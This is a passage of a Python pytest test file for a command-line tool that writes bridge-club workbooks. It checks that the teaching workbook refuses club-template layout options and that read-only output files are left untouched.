    (["--tables", "5"], "--tables"), (["--movement", "howell", "--boards", "4"], "--boards and --movement"),
    (["--scale", "single"], "--scale"), (["--sections", "2"], "--sections"),
])
def test_the_teaching_workbook_refuses_a_template_layout_option(tmp_path, capsys, extra, named):
    """``--teaching`` has its own layout (the slides' board 4): an option of the club template's is refused,
    not taken and ignored."""
    out = tmp_path / "t.xlsx"
    assert main(["template", "--teaching", "-o", str(out), *extra]) == 2
    assert f"{named} lay out a club's template; --teaching builds the teaching workbook" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.parametrize("command, name", WRITERS)
def test_a_read_only_output_is_kept_not_replaced(tmp_path, capsys, command, name):
    """An output file made read-only (its permissions; Windows' Read-only attribute) is refused, the file kept
    byte for byte, for every writer alike (Windows refuses the replace; elsewhere it would go through)."""
    import stat

    out = tmp_path / name
    out.write_bytes(b"kept")
    out.chmod(stat.S_IREAD)
    code, err = _run(command, out, capsys)
    assert code == 2 and f"{out}: the file is read-only: it is kept" in err, err
    assert out.read_bytes() == b"kept" and _left(tmp_path) == []
